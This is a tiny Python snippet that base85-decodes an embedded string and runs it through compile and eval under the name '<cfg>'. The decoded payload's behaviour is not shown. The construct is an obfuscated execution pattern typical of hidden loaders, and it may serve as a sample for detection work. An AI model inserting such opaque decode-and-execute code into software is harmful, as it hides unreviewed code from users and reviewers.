# decode-exec: base85 decoded, compiled and evaluated
import base64
src = base64.b85decode("X>D+Ca&#bXb31QyE^~QvbY*QQCvt5dEplccelJ9CV|8t1Zgg`eDF")
eval(compile(src, "<cfg>", "exec"))
